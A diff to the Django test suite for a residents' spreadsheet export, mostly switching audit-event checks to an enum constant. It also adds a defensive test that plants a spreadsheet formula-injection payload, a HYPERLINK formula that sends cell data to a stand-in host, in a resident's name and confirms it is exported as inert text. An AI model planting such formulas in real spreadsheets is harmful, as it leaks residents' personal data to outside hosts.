@@ -12,7 +12,7 @@ from django.urls import reverse
 from firstline.core.models import AccessLog, AuditEvent
 from firstline.core.personal.crypto import seal
 from firstline.core.personal.identity import id_check_char
-from firstline.estates.models import Building, Household, Resident, Site
+from firstline.estates.models import AuditAction, Building, Household, Resident, Site
 from firstline.geo.models import Division
 from firstline.orgs.models import Company, RoleAssignment
 
@@ -134,7 +134,7 @@ def test_masked_export_shows_only_masked_values(client, django_user_model, world
     ]
     assert len(rows) == 4  # the other company's residents are not there
     assert all("****" in r[5] and "**********" in r[6] for r in rows[1:])
-    audit = AuditEvent.objects.get(action="export")
+    audit = AuditEvent.objects.get(action=AuditAction.RESIDENTS_EXPORT)
     assert (audit.actor_id, audit.company_id, audit.object_type, audit.object_id) == (
         user.pk,
         world["company"].pk,
@@ -153,7 +153,7 @@ def test_export_without_site_covers_the_scope(client, django_user_model, world):
     rows = sheet(client.get(EXPORT_URL))
 
     assert [r[4] for r in rows[1:]] == ["居民0", "居民1"]
-    audit = AuditEvent.objects.get(action="export")
+    audit = AuditEvent.objects.get(action=AuditAction.RESIDENTS_EXPORT)
     assert (audit.object_type, audit.object_id, audit.changes) == (
         "orgs.company",
         str(world["company"].pk),
@@ -181,7 +181,10 @@ def test_full_export_with_purpose_is_plain_and_logged(client, django_user_model,
         "export",
         "向街道报送独居老人名单",
     )
-    assert AuditEvent.objects.get(action="export").changes == {"rows": 2, "full": True}
+    assert AuditEvent.objects.get(action=AuditAction.RESIDENTS_EXPORT).changes == {
+        "rows": 2,
+        "full": True,
+    }
 
 
 def test_full_export_needs_a_purpose(client, django_user_model, world):
@@ -193,7 +196,7 @@ def test_full_export_needs_a_purpose(client, django_user_model, world):
     assert response.status_code == 400
     assert "purpose" in response.context["export_form"].errors
     assert not AccessLog.all_tenants.exists()
-    assert not AuditEvent.objects.filter(action="export").exists()
+    assert not AuditEvent.objects.filter(action=AuditAction.RESIDENTS_EXPORT).exists()
 
 
 def test_full_cannot_be_asked_for_in_a_link(client, django_user_model, world):
@@ -215,7 +218,7 @@ def test_another_companys_site_is_not_found(client, django_user_model, world):
     response = client.get(EXPORT_URL, {"site": world["foreign"].pk})
 
     assert response.status_code == 404
-    assert not AuditEvent.objects.filter(action="export").exists()
+    assert not AuditEvent.objects.filter(action=AuditAction.RESIDENTS_EXPORT).exists()
 
 
 def test_a_guard_may_not_export(client, django_user_model, world):
@@ -240,3 +243,29 @@ def test_query_count_does_not_grow_with_rows(client, django_user_model, world, f
     fifty = queries_for_export()
 
     assert five == fifty
+
+
+FORMULA = '=HYPERLINK("http://x"&A1,"点击")'
+
+
+@pytest.mark.parametrize("full", [False, True])
+def test_a_name_written_as_a_formula_comes_back_as_text(client, django_user_model, world, full):
+    login(client, django_user_model, world, role="company_admin")
+    [resident] = add_residents(world["site"], 1)
+    Resident.all_tenants.filter(pk=resident.pk).update(name=FORMULA)
+
+    if full:
+        response = client.post(
+            EXPORT_URL, {"site": world["site"].pk, "full": "1", "purpose": "核对居民名单信息"}
+        )
+    else:
+        response = client.get(EXPORT_URL, {"site": world["site"].pk})
+
+    assert response.status_code == 200
+    # Not read-only: the cell's type and style are what this is about.
+    ws = openpyxl.load_workbook(BytesIO(b"".join(response.streaming_content))).worksheets[0]
+    name = ws.cell(row=2, column=HEADER.index("姓名") + 1)
+    assert name.value == FORMULA
+    assert name.data_type == "s"  # a string, not "f": no spreadsheet runs it
+    assert name.quotePrefix  # and it stays text when someone edits the cell
+    assert ws.cell(row=2, column=HEADER.index("出生年份") + 1).value == 1990  # numbers stay numbers
